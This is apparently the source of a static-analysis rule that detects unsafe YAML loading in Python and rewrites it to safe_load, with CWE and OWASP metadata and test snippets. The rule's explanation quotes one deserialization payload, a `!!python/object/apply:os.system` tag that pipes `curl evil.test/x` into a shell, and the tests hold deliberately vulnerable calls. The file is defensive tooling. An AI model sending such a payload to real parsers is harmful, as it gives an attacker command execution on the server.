"""TG115: YAML loaded with a loader that can construct arbitrary Python objects."""

from __future__ import annotations

import ast

import libcst as cst
from tabguard.engine.fixes import expression_fix
from tabguard.engine.rule import Invalid, Rule
from tabguard.rules.injection import last_names
from tabguard.rules.injection._strings import is_static, raised

_LOAD = {"yaml.load": "yaml.safe_load", "yaml.load_all": "yaml.safe_load_all"}
_ALWAYS_UNSAFE = {
    "yaml.unsafe_load": "yaml.safe_load",
    "yaml.unsafe_load_all": "yaml.safe_load_all",
    "yaml.full_load": "yaml.safe_load",
    "yaml.full_load_all": "yaml.safe_load_all",
}
_RUAMEL = ("ruamel.yaml.YAML", "ruamel.yaml.main.YAML")
_UNSAFE_LOADERS = frozenset({"Loader", "CLoader", "UnsafeLoader", "CUnsafeLoader", "FullLoader", "CFullLoader"})


def _safe_call(new_callee: str):
    """`yaml.safe_load(stream)`: the same stream, no loader."""

    def transform(call: cst.BaseExpression) -> cst.BaseExpression:
        assert isinstance(call, cst.Call)
        stream = call.args[0].with_changes(comma=cst.MaybeSentinel.DEFAULT)
        return call.with_changes(func=cst.parse_expression(new_callee), args=[stream])

    return transform


class YamlUnsafeLoad(Rule):
    id = "TG115"
    name = "yaml-unsafe-load"
    severity = "high"
    confidence = "high"
    raises_when_tainted = True
    cwe = (502,)
    quiet_in_tests = True
    owasp = "A08:2025"
    message = "`{callee}` loads YAML with {loader}, which can construct Python objects"
    placeholders = {"callee": "yaml.load", "loader": "an unsafe loader"}
    aliases = ("B506", "S506")
    call_names = last_names((*_RUAMEL, *_LOAD, *_ALWAYS_UNSAFE))
    what = "`{callee}` parses YAML with {loader}; tags such as `!!python/object/apply` are honoured."
    why = (
        '`!!python/object/apply:os.system ["curl evil.test/x | sh"]` in a config upload, a CI file or '
        "an API body runs a command while the document is parsed. `FullLoader` was meant to be safer "
        "but has had several bypasses; only `SafeLoader` builds plain data."
    )
    how = (
        "Use `yaml.safe_load` / `yaml.safe_load_all` (or `Loader=yaml.SafeLoader`); map the result onto your own types."
    )
    example = "config = yaml.safe_load(stream)"
    fix_safety = (
        "Unsafe: `yaml.safe_load` rejects Python-specific tags; documents that relied on them now raise "
        "`yaml.constructor.ConstructorError`, which is the intent."
    )
    references = (
        "https://cwe.mitre.org/data/definitions/502.html",
        "https://pyyaml.org/wiki/PyYAMLDocumentation",
        "https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation",
    )
    VALID = (
        "import yaml\ndef f(s):\n    return yaml.safe_load(s)\n",
        "import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.SafeLoader)\n",
        "import yaml\ndef f(s):\n    return yaml.load(s, yaml.CSafeLoader)\n",
        'from ruamel.yaml import YAML\nyaml = YAML(typ="safe")\n',
    )
    INVALID = (
        Invalid(
            "import yaml\ndef f(stream):\n    return yaml.load(stream)\n",
            "import yaml\ndef f(stream):\n    return yaml.safe_load(stream)\n",
        ),
        Invalid(
            "import yaml\ndef f(path):\n    with open(path) as fh:\n        return list(yaml.load_all(fh, Loader=yaml.FullLoader))\n",
            "import yaml\ndef f(path):\n    with open(path) as fh:\n        return list(yaml.safe_load_all(fh))\n",
        ),
        Invalid(
            "import yaml\nfrom flask import request\ndef f():\n    return yaml.unsafe_load(request.data)\n",
            "import yaml\nfrom flask import request\ndef f():\n    return yaml.safe_load(request.data)\n",
        ),
        Invalid('from ruamel.yaml import YAML\ndef f(s):\n    return YAML(typ="unsafe").load(s)\n'),
        # The loader class held in a local first.
        Invalid(
            "import yaml\ndef load(text):\n    loader = yaml.UnsafeLoader\n    return yaml.load(text, Loader=loader)\n",
            "import yaml\ndef load(text):\n    loader = yaml.UnsafeLoader\n    return yaml.safe_load(text)\n",
            message="`UnsafeLoader`",
        ),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        callee = ctx.call_name(node) or ""
        if callee in _RUAMEL:
            typ = ctx.keyword(node, "typ")
            if typ is not None and ctx.constant_value(typ.value) in ("unsafe", "full"):
                ctx.report(self, node, details={"callee": "YAML", "loader": f"typ={ctx.constant_value(typ.value)!r}"})
            return
        if callee in _ALWAYS_UNSAFE:
            loader = "`FullLoader`" if "full" in callee else "`UnsafeLoader`"
            safe_name = _ALWAYS_UNSAFE[callee]
        elif callee in _LOAD:
            loader_arg = ctx.argument(node, 1, "Loader")
            if loader_arg is None:
                loader = "the default loader"
            else:
                if isinstance(loader_arg, ast.Name) and ctx.function is not None:
                    loader_arg = ctx.model.value_of(loader_arg) or loader_arg  # `loader = yaml.UnsafeLoader`
                loader = (ctx.qualname(loader_arg) or "").rsplit(".", 1)[-1]
                if loader not in _UNSAFE_LOADERS:
                    return  # a safe or a custom loader
                loader = f"`{loader}`"
            safe_name = _LOAD[callee]
        else:
            return
        if not node.args or is_static(node.args[0], ctx):
            return
        source = ctx.taint(node.args[0])
        fix = None
        if not any(k.arg is None for k in node.keywords) and not isinstance(node.args[0], ast.Starred):
            fix = expression_fix(
                ctx, node, _safe_call(safe_name), f"Fix: use {safe_name}", safe=False, imports=("yaml",)
            )
        ctx.report(
            self,
            node,
            details={"callee": callee, "loader": loader},
            source=source,
            fix=fix,
            severity=raised(self, source),
        )
